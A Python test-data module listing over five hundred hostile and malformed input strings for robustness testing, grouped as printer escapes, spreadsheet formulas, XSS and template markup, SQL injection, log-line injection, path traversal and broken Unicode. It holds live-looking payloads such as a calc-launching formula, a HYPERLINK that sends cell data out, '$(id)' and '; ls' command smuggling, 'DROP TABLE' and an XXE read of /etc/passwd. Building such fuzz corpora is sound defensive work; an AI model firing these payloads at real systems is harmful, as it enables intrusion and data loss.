"""Strings that strangers, broken scanners and attackers send: more than five hundred, in named families.

Whatever is marked up carries `x-evil`, whatever would run carries `onevil`, whatever would be a line of its own begins
with `evil:`, so that an output can be asked whether one of them has become more than text.
"""

from __future__ import annotations

TAG, ATTRIBUTE, LINE = "x-evil", "onevil", "evil:"

_CONTROLS = tuple(f"a{chr(number)}b" for number in (*range(0x20), *range(0x7F, 0xA0)))
_ESCAPES = (
    "\x1b@", "\x1bi", "\x1dV\x00", "\x10\x14\x01\x00\x05", "\x1b[2J\x1b[H", "\x1b]0;evil:title\x07",
    "\x9b31mred", "\x1b(s0B", "\x1bp\x00\x19\xfa", "\x1d(L\x06\x000E\x20\x20\x01\x01", "\x1b%-12345X@PJL",
    "\x0eshift\x0f", "\x05\x04\x10",
)  # fmt: skip
_ZPL = (
    "^XZ^XA^FO0,0^GB800,1440,800^FS~JR", "~JA", "~HS", "^XA~JA^XZ", "~DG000.GRF,80,10,FF", "^FD^FS^XZ", "^CC+",
    "~SD30", "^MCY^XZ", "^ID*:*.*^FS", "~WC", "^JUF", "\\5E\\7E", "_5EXA", "^FH_^FD_5EXZ^FS",
)  # fmt: skip
_TSPL = (
    '"\r\nCLS\r\nBAR 0,0,800,1440\r\nPRINT 99\r\n', '",0\r\nPRINT 9,9', '\\["]', '"', '""', "'", "`",
    '"\nSELFTEST\n"', "\r\nKILL *\r\n", 'FILES\r\n', "\x1b!R", "\x1b!C", 'DOWNLOAD "AUTO.BAS",9,',
    "BITMAP 0,0,1,1,0,\x00", "EOP\r\n",
)  # fmt: skip
_BIDI = tuple(
    f"{mark}abc{other}储位"
    for mark in "\u202a\u202b\u202d\u202e\u2066\u2067\u2068\u200e\u200f"
    for other in ("\u202c", "\u2069", "")
)
_INVISIBLE = tuple(
    f"a{mark}b"
    for mark in "\u200b\u200c\u200d\u2060\u00ad\u034f\u061c\u180e\u2028\u2029\u3164\uffa0\ufeff\u2800"
    "\u115f\ufff9\ufffb\ufffe\uffff\U000e0041\U000e01ef"
)
_FORMULAS = tuple(
    f"{start}{rest}"
    for start in ("=", "+", "-", "@", "\t=", "\r=", "=\t", " =", "＝", "＋", "－", "＠", ";=", ",=", '"=')
    for rest in ("1+1", "cmd|' /C calc'!A0", 'HYPERLINK("http://x/?"&A1,"evil:")', "SUM(A1:A9)*9", "IMPORTXML(1,2)")
)
_OPENINGS = (
    "", '"', "'", '">', "'>", "</title>", "</textarea>", "</script>", "</style>", "-->", "]]>", "</svg>",
    "<!--", "\x00",
)  # fmt: skip
_TAGS = tuple(f"{before}<{TAG} {ATTRIBUTE}=1>{after}" for before in _OPENINGS for after in ("", f"</{TAG}>"))
_RUNNING = (
    f"<script>{ATTRIBUTE}(1)</script>", f"<img src=x {ATTRIBUTE}=alert(1)>", f'" {ATTRIBUTE}="alert(1)',
    f"' {ATTRIBUTE}='alert(1)", f"<svg/{ATTRIBUTE}=alert(1)>", "javascript:onevil(1)",
    "data:text/html,<x-evil>", "&lt;x-evil&gt;", "&#60;x-evil&#62;", "&#x3c;x-evil>", "\u003cx-evil\u003e",
    "%3Cx-evil%3E", "＜x-evil＞", "+ADw-x-evil+AD4-", "<x-evil", "<<x-evil>>", "<x-evil/>", "<\x00x-evil>",
    "<x-evil\x0c>", "{{7*7}}", "{% x-evil %}", "{{config}}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{0.__class__}",
    "{number}", "%s%n%x", "%(name)s", "$(id)", "`id`", "; ls", "| id", "&& id", "\\u003cx-evil\\u003e",
    "</x-evil>", "<a href=javascript:onevil()>x</a>", "<style>@import'evil:'</style>", "<base href=//evil>",
    "<!ENTITY x SYSTEM 'file:///etc/passwd'>",
)  # fmt: skip
_SQL = (
    "' OR '1'='1", "'; DROP TABLE stock; --", "\"; DROP TABLE stock; --", "1; SELECT pg_sleep(9)--",
    "' UNION SELECT key_hash FROM api_key--", "\\'; --", "%", "_", "%%%%", "100%", "a_b",
    "' || (SELECT 1) || '", "/**/", "--", "#", "0x27", "CHAR(39)", "$$x$$", ":name", "%(x)s", "?", "NULL",
    "null", "None", "undefined", "true", "NaN", "Infinity", "-0", "0", "1e309", "99999999999999999999", "0x10",
    "1_000", "٣", "²", "１２",
)  # fmt: skip
_ENDS = (
    "\r\n", "\n", "\r", "\x0b", "\x0c", "\x1c", "\x1d", "\x1e", "\x85", "\u2028", "\u2029", "\r\n\r\n",
)  # fmt: skip
_LINES = (
    *(f"a{end}{LINE} level=error" for end in _ENDS),
    'a\r\n{"event":"evil:","level":"error"}',
    "a\nSet-Cookie: evil:=1",
    "a\r\nLocation: //evil",
    "a%0d%0aevil:",
    "a\\r\\nevil:",
    "a\r\n\tevil:",
)
_PATHS = (
    "../../../../etc/passwd", "..\\..\\windows\\win.ini", "/etc/passwd", "file:///etc/passwd", "C:\\Windows",
    "....//....//etc", "%2e%2e%2f", "..%c0%af..", "a/../b", ".", "..", "/", "\\", "~", "~root", "CON", "NUL",
    "aux.txt", "a\x00.csv", "a/b", "//evil/x", "\\\\evil\\x", "a?b=c", "a#b", "a;b", "a%00b", "a%2fb", "-rf",
    "--help", "*", "?", "[a]", "{a,b}", "a b", " a", "a ", ".a", "a.", "",
)  # fmt: skip
_BROKEN = (
    "\ud800", "\udfff", "a\udc00b", "\ud83d", "\ude00\ud83d", "\udced\udca0\udc80", "\udcc0\udcaf",
    "\udcff\udcfe", "\xc0\xaf", "\xed\xa0\x80", "\xff\xfe", "ï»¿", "Ã©", "é", "e\u0301", "\u212b", "ﬁ", "ı",
    "İ", "ſ", "ß", "Ω", "\u1e9e", "\U0010ffff", "\ue000", "\U000f0000", "\ufdd0",
)  # fmt: skip
_PICTURES = (
    "👨‍👩‍👧‍👦", "🇨🇳", "❤️🔥", "🏳️‍🌈", "👍🏿", "𠮷𪚥", "䶮㐂", "龘靐齉爩", "𝓗", "\ufdfa",
    "Z" + "\u0351\u0363\u0489" * 60, "ก็็็็็็็็", "̈", "꧅", "𒐫",
)  # fmt: skip
_LONG = tuple(
    sign * length
    for sign in ("a", "储", "👍", "\u0301", "W ", "\x1b", "<")
    for length in (41, 65, 129, 201, 301, 5_000, 70_000)
)
_CODES = (
    "]C1010690123456789210L2", "]C1", "]d2\x1d", "CM.MENU.0", "CM.YES.5", "BA.0001.0", "SL.A01-01-1A.0",
    "SL.-.0", "LP..0", "sl.a01.1", "SL.A" + "1" * 60 + ".0", "0106901234567891", "6901234567891",
    "PA.P0000001-1.0", "OR.1.0", "\x02SCAN\x03", "\x1d", "\x1e\x04", "]Q3\x1d\x1d", "MATMSG:TO:x;;",
    "WIFI:S:x;;", "http://x.invalid/?a=b&c=d", "BEGIN:VCARD", "tel:+86", "{\"id\":1}", "[1,2]",
    "<?xml version='1.0'?>",
)  # fmt: skip

FAMILIES: dict[str, tuple[str, ...]] = {
    "control": _CONTROLS,
    "escape": _ESCAPES,
    "zpl": _ZPL,
    "tspl": _TSPL,
    "bidi": _BIDI,
    "invisible": _INVISIBLE,
    "formula": _FORMULAS,
    "markup": (*_TAGS, *_RUNNING),
    "sql": _SQL,
    "line": _LINES,
    "path": _PATHS,
    "broken": _BROKEN,
    "picture": _PICTURES,
    "long": _LONG,
    "code": _CODES,
}
STRINGS: tuple[str, ...] = tuple(dict.fromkeys(text for family in FAMILIES.values() for text in family))
